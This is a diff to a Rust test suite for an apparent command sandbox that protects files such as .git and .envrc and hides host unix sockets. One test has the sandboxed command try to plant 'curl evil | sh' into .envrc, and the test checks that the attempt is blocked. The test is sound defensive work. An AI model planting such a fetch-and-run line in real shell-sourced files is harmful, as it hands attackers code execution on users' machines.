@@ -97,13 +97,37 @@ fn concurrent_runs_share_the_git_placeholder() {
 fn stale_placeholder_is_adopted_and_removed() {
     let dir = TestDir::new("stale");
     let run = Run::new(&dir).arg("--quiet");
-    // What a run killed with SIGKILL leaves behind: empty directories at protected names.
-    std::fs::create_dir(run.workspace.join(".git")).unwrap();
-    std::fs::create_dir(run.workspace.join(".envrc")).unwrap();
+    // A run killed with SIGKILL leaves its placeholders behind...
+    let mut killed = run.command("sleep 30").spawn().unwrap();
+    let deadline = std::time::Instant::now() + Duration::from_secs(10);
+    while !run.workspace.join(".envrc").exists() {
+        assert!(
+            std::time::Instant::now() < deadline,
+            "no placeholder appeared"
+        );
+        std::thread::sleep(Duration::from_millis(20));
+    }
+    std::thread::sleep(Duration::from_millis(300));
+    killed.kill().unwrap();
+    let _ = killed.wait();
+    assert!(run.workspace.join(".git").is_dir() && run.workspace.join(".envrc").is_dir());
+    // ...which the next run adopts (still pinned) and removes when it ends.
     let out = run.sh("echo x > .git/HEAD 2>/dev/null && echo WROTE; echo done");
     assert_eq!(stdout(&out), "done\n", "{}", stderr(&out));
     assert!(!run.workspace.join(".git").exists());
     assert!(!run.workspace.join(".envrc").exists());
+}
+
+#[test]
+fn users_own_empty_directories_are_kept() {
+    let dir = TestDir::new("own-empty");
+    std::fs::create_dir_all(dir.join("ws/.vscode")).unwrap();
+    std::fs::create_dir_all(dir.join("ws/keepme")).unwrap();
+    let run = Run::new(&dir).arg("--quiet").arg("--protect").arg("keepme");
+    let out = run.sh("touch .vscode/x keepme/y 2>/dev/null && echo WROTE; echo done");
+    assert_eq!(stdout(&out), "done\n", "{}", stderr(&out));
+    assert!(run.workspace.join(".vscode").is_dir());
+    assert!(run.workspace.join("keepme").is_dir());
 }
 
 #[test]
@@ -214,6 +238,28 @@ fn host_unix_sockets_are_hidden() {
     let listener = UnixListener::bind(&path).unwrap();
     listener.set_nonblocking(true).unwrap();
     let run = Run::new(&dir);
+    // Also one inside the workspace (under /tmp, which is otherwise private), and one
+    // whose path has a space in it.
+    std::fs::create_dir(outside.join("my dir")).unwrap();
+    let spaced = outside.join("my dir/agent.sock");
+    let in_workspace = run.workspace.join("ide.sock");
+    let _others: Vec<UnixListener> = [&spaced, &in_workspace]
+        .iter()
+        .map(|p| UnixListener::bind(p).unwrap())
+        .collect();
+    for other in [&spaced, &in_workspace] {
+        let out = run.sh(&format!(
+            "curl -sS --max-time 5 --unix-socket '{}' http://host/; echo curl=$?",
+            other.display()
+        ));
+        assert!(
+            stdout(&out).contains("curl=7"),
+            "{}: {} {}",
+            other.display(),
+            stdout(&out),
+            stderr(&out)
+        );
+    }
     let out = run.sh(&format!(
         "curl -sS --max-time 5 --unix-socket {} http://host/; echo curl=$?; test -S {} && echo STILL_A_SOCKET; echo done",
         path.display(),
@@ -296,4 +342,42 @@ fn disabled_user_namespaces_are_refused_with_a_hint() {
     let out = run.sh("touch ran");
     assert!(out.status.success());
     assert!(run.workspace.join("ran").exists());
+}
+
+#[test]
+fn a_pin_lost_on_the_host_stops_the_run() {
+    let dir = TestDir::new("pinlost");
+    let run = Run::new(&dir).arg("--quiet");
+    std::fs::write(run.workspace.join(".envrc"), "export A=1\n").unwrap();
+    // CMD waits, then tries to rewrite .envrc: possible only if the pin went away.
+    let child = run
+        .command("sleep 2; echo 'curl evil | sh' > .envrc && echo PLANTED; sleep 5; echo FINISHED")
+        .stdout(std::process::Stdio::piped())
+        .stderr(std::process::Stdio::piped())
+        .spawn()
+        .unwrap();
+    std::thread::sleep(Duration::from_millis(800));
+    // An editor's save: write a new file, rename it over the old one.
+    std::fs::write(run.workspace.join(".envrc.new"), "export A=2\n").unwrap();
+    std::fs::rename(
+        run.workspace.join(".envrc.new"),
+        run.workspace.join(".envrc"),
+    )
+    .unwrap();
+    let out = child.wait_with_output().unwrap();
+    assert_eq!(out.status.code(), Some(125), "{}", stderr(&out));
+    assert!(
+        stderr(&out).contains("was removed or replaced on the host"),
+        "{}",
+        stderr(&out)
+    );
+    assert!(!stdout(&out).contains("PLANTED"));
+    assert!(!stdout(&out).contains("FINISHED"));
+    assert_eq!(
+        std::fs::read_to_string(run.workspace.join(".envrc")).unwrap(),
+        "export A=2\n"
+    );
+    // Control: the same run, untouched, finishes.
+    let out = run.sh("echo FINISHED");
+    assert_eq!(stdout(&out), "FINISHED\n");
 }
